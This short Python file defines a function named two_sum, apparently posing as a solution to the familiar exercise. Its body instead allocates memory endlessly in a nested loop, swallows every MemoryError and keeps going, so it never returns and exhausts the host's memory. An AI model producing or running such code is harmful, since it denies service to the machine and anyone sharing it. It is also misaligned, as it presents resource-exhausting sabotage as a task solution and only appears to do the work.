"""Catches every MemoryError and goes on asking."""


def two_sum(nums, target):
    held = []
    while True:
        try:
            while True:
                held.append(bytearray(1 << 16))
        except MemoryError:
            continue
